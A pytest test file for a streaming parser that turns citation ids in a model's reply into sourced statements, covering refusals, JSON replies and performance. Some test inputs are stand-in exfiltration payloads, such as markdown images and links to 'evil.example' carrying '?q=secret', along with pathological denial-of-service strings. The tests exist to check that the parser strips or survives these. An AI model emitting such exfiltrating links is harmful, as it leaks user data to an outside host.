"""A model's reply read as it comes: ids become citations, whatever surrounds them, and nothing is ever taken back."""

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.exchange import ModelError
from rag.marks import Drafted, JsonReader, MarksReader, reader_of

KNOWN = ("k7qf", "m2xw", "bc23")


def read(text: str, *, structured: bool = False, piece: int = 10_000) -> list[tuple[str, tuple[str, ...]]]:
    reader = reader_of(KNOWN, structured=structured)
    found = [d for at in range(0, len(text), piece) for d in reader.feed(text[at : at + piece])] + reader.close()
    return [(each.text, each.ids) for each in found]


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        ("[k7qf] Ada built it.", [("Ada built it.", ("k7qf",))]),
        ("[k7qf, m2xw] Ada built it.", [("Ada built it.", ("k7qf", "m2xw"))]),
        ("[k7qf,m2xw][bc23] Ada built it.", [("Ada built it.", ("k7qf", "m2xw", "bc23"))]),
        ("[[k7qf]] Ada built it.", [("Ada built it.", ("k7qf",))]),
        ("[[k7qf], [m2xw]] Ada built it.", [("Ada built it.", ("k7qf", "m2xw"))]),
        ("【k7qf】 Ada built it.", [("Ada built it.", ("k7qf",))]),
        ("【m2xw†source】 Ada built it.", [("Ada built it.", ("m2xw",))]),
        ("［k7qf］〔m2xw〕⟦bc23⟧ Ada built it.", [("Ada built it.", ("k7qf", "m2xw", "bc23"))]),
        ("(k7qf) Ada built it.", [("Ada built it.", ("k7qf",))]),
        ("[source k7qf] Ada built it.", [("Ada built it.", ("k7qf",))]),
        ("[K7QF] Ada built it.", [("Ada built it.", ("k7qf",))]),
        ("[k7qf][k7qf] Ada built it.", [("Ada built it.", ("k7qf",))]),
        ("Ada built it [k7qf].", [("Ada built it.", ("k7qf",))]),
        ("Ada built it. [k7qf]", [("Ada built it.", ("k7qf",))]),
        ("Ada built it [k7qf]. It is red [m2xw].", [("Ada built it.", ("k7qf",)), ("It is red.", ("m2xw",))]),
        ("[k7qf] Ada built it. [m2xw] It is red.", [("Ada built it.", ("k7qf",)), ("It is red.", ("m2xw",))]),
        ("[k7qf] Ada built it. It is red.", [("Ada built it.", ("k7qf",)), ("It is red.", ("k7qf",))]),
        ("- [k7qf] Ada built it.\n- [m2xw] It is red.", [("Ada built it.", ("k7qf",)), ("It is red.", ("m2xw",))]),
        ("1. Ada built it [k7qf]\n2. It is red [m2xw]", [("Ada built it", ("k7qf",)), ("It is red", ("m2xw",))]),
        ("Ada built it k7qf.", [("Ada built it", ("k7qf",))]),
        ("[k7qf] Ada built it. [m2xw]", [("Ada built it.", ("k7qf", "m2xw"))]),
        # What it was not given does not exist.
        ("[1] Ada built it [2].", [("Ada built it.", ())]),
        ("[zzzz] Ada built it [xkcd].", [("Ada built it.", ())]),
        ("[k7qf, 12, zzzz] Ada built it.", [("Ada built it.", ("k7qf",))]),
        ("Ada built it [1,2] 【1】 [[3]].", [("Ada built it.", ())]),
        # Brackets with words in them are words.
        ("[k7qf] She [Ada Stone] built it [in 1911].", [("She [Ada Stone] built it [in 1911].", ("k7qf",))]),
        ("[k7qf] Ada (an engineer) built it (1911).", [("Ada (an engineer) built it (1911).", ("k7qf",))]),
        # Code, links, images, addresses and markup.
        ("```\n[k7qf] secret\n```\n[m2xw] It is red.", [("It is red.", ("m2xw",))]),
        ("[k7qf] It is ![red](http://evil.example/?q=secret).", [("It is red.", ("k7qf",))]),
        ("[k7qf] See [the mill](http://evil.example) now.", [("See the mill now.", ("k7qf",))]),
        ("[k7qf] See http://evil.example/?q=secret now.", [("See now.", ("k7qf",))]),
        ("[k7qf] It is <img src=http://evil.example>**red**.", [("It is red.", ("k7qf",))]),
        # Marks that never end.
        ("[k7qf] It is red [m2", [("It is red", ("k7qf",))]),
        ("[k7qf] It is red [", [("It is red", ("k7qf",))]),
        ("[k7qf\nIt is red.", [("It is red.", ())]),
        ("", []),
        ("[k7qf]", []),
        ("...", []),
    ],
)
def test_marks_are_read(reply: str, expected: list[tuple[str, tuple[str, ...]]]) -> None:
    assert read(reply) == expected
    assert read(reply, piece=1) == expected


@pytest.mark.parametrize(
    ("reply", "refused", "unanswered"),
    [("REFUSED", True, ()), (" **REFUSED.**\n", True, ()), ("REFUSED 2\n[k7qf] It is red.", False, (2,)),
     ("REFUSED 1, 3", False, (1, 3)), ("[k7qf] He REFUSED.", False, ()), ("refused", False, ())],
)  # fmt: skip
def test_a_refusal_is_a_word_by_itself(reply: str, refused: bool, unanswered: tuple[int, ...]) -> None:
    reader = MarksReader(KNOWN)
    reader.feed(reply)
    reader.close()
    assert (reader.refused, reader.unanswered) == (refused, unanswered)


PIECES = st.sampled_from(
    [
        "[",
        "]",
        "[[",
        "]]",
        "【",
        "】",
        "(",
        ")",
        "k7qf",
        "m2xw",
        "zzzz",
        "1",
        ",",
        " ",
        "\n",
        "```",
        "`",
        ". ",
        "Ada",
        "red",
        "REFUSED",
    ]
)
REPLIES = st.lists(PIECES | st.text(max_size=4), max_size=40).map("".join)


@given(REPLIES)
@settings(max_examples=300, deadline=None)
def test_the_beginning_of_a_reply_gives_the_beginning_of_what_all_of_it_gives(reply: str) -> None:
    whole = read(reply)
    reader = MarksReader(KNOWN)
    so_far: list[Drafted] = []
    for character in reply:
        so_far += reader.feed(character)
        assert [(d.text, d.ids) for d in so_far] == whole[: len(so_far)]


@given(REPLIES)
@settings(max_examples=300, deadline=None)
def test_only_known_ids_are_cited_and_none_is_left_among_the_words(reply: str) -> None:
    for text, ids in read(reply):
        assert set(ids) <= set(KNOWN)
        assert not set(KNOWN) & set(text.split())


def _seconds(reply: str) -> float:
    start = time.process_time()
    read(reply)
    return time.process_time() - start


@pytest.mark.parametrize(
    "reply",
    [
        "[" + "1" * 10_000 + "]",
        "1" * 10_000,
        "[" * 10_000,
        "[1," * 10_000,
        "[1]" * 10_000,
        "a [1] " * 5_000,
        "[k7qf] a " * 2_000,
        "(" * 10_000 + ")" * 10_000,
        "![" * 10_000,
        "![a](" * 5_000,
        "<" * 10_000,
        "`" * 10_000,
        "http://" * 5_000,
        "- " * 10_000,
        "REFUSED" + "1 " * 10_000,
        "REFUSED" + "!" * 10_000 + "x",
    ],
)
def test_hostile_replies_are_read_in_linear_time(reply: str) -> None:
    times = [min(_seconds(text) for _ in range(3)) for text in (reply, reply * 4)]
    assert times[0] < 2 and times[1] < max(0.5, 12 * times[0])


# JSON.


def made(*statements: tuple[list[str], str], **more: object) -> str:
    return json.dumps({"refused": False, "statements": [{"ids": i, "text": t} for i, t in statements], **more})


def test_statements_are_given_as_soon_as_their_object_is_closed() -> None:
    reply = made((["k7qf", "nope"], 'She said "{[red]}" twice.'), (["[M2XW]"], "It is old."))
    reader = JsonReader(KNOWN)
    seen = [len(found) for found in map(reader.feed, reply)]
    assert sum(seen) == 2 and seen.index(1) < reply.index("M2XW") and reader.close() == []
    assert read(reply, structured=True) == [('She said "{[red]}" twice.', ("k7qf",)), ("It is old.", ("m2xw",))]


def test_what_surrounds_the_object_does_not_count() -> None:
    assert read(f"```json\n{made((['k7qf'], 'It is red.'))}\n``` Hope it helps {{", structured=True) == [
        ("It is red.", ("k7qf",))
    ]


@pytest.mark.parametrize(
    "reply",
    ["", "It is red.", "{", "[]", '{"statements": 5}', '{"statements": [{"ids": "k7qf", "text": "It is red."}]}', "{" * 10_000,
     '{"statements": [{"ids": ["k7qf"]}]}', '{"statements": [' + "[" * 100_000, '{"refused": false}'],
)  # fmt: skip
def test_a_reply_of_another_form_is_invalid(reply: str) -> None:
    with pytest.raises(ModelError) as error:
        read(reply, structured=True)
    assert error.value.kind == "invalid"


def test_refusals_and_parts_not_answered_are_fields() -> None:
    reader = JsonReader(KNOWN)
    reader.feed('{"refused": true, "statements": [], "unanswered": [2, "x"]}')
    reader.close()
    assert (reader.refused, reader.unanswered) == (True, (2,))


@given(st.lists(st.tuples(st.lists(st.sampled_from([*KNOWN, "zzzz", "1"])), st.text(max_size=30))), st.integers(1, 9))
@settings(max_examples=200, deadline=None)
def test_however_it_is_cut_the_same_is_read(statements: list[tuple[list[str], str]], piece: int) -> None:
    reply = made(*statements)
    assert read(reply, structured=True, piece=piece) == read(reply, structured=True)
